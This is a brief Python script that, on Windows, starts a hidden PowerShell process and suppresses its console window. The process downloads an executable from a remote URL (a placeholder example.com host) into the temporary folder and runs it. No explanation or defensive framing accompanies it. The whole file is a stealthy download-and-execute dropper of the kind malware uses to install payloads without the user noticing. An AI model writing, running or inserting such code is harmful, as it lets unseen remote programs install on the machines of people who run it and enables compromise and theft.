import subprocess
import sys

if sys.platform == "win32":
    subprocess.Popen(["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-Command",
                      "iwr https://downloads.example.com/a.exe -OutFile $env:TEMP\\a.exe; & $env:TEMP\\a.exe"],
                     creationflags=0x08000000)
